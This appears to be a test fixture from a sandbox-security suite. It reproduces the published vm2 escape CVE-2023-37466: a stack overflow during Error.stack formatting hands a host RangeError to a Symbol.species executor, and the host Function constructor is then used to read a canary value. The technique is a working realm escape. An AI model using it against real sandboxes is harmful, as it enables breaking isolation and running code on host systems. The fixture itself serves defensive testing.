/*---
id: re-promise-species-07-error-stack-overflow
description: "CVE-2023-37466 as published: the async function's stack overflows
  while new Error().stack is formatted, and a Symbol.species executor receives
  the rejection; a host error's Function reads the host canary."
kind: malicious
category: realm-escape
technique: RE-promise-species
variant: plain
references:
  - CVE-2023-37466
  - GHSA-cchq-frgv-rjh5
proven:
  - vm2@3.9.19
expect:
  ultra-secure:
    outcome: contained
    value: held
  high-security:
    outcome: contained
    value: held
  tenant-isolated:
    outcome: contained
    value: held
flags:
  - async
---*/
// CVE-2023-37466: the async function's stack overflow is raised while `new Error().stack` is formatted, on
// the host side of the sandbox, so the rejection handed to the species executor is a host RangeError.
let verdict = 'held';
async function overflow() { (function deeper() { new Error().stack; deeper(); })(); }
const p = overflow();
try {
  p.constructor = {
    [Symbol.species]: class Species {
      constructor(executor) {
        executor(() => {}, (err) => {
          try {
            const token = err.constructor.constructor('return globalThis.__SANDPROOF_CANARY__')();
            if (typeof token === 'string') verdict = 'ESCAPED:' + token;
          } catch (e) {}
        });
      }
    },
  };
  p.then();
} catch (e) {}
for (let i = 0; i < 20; i++) await null;
return verdict;
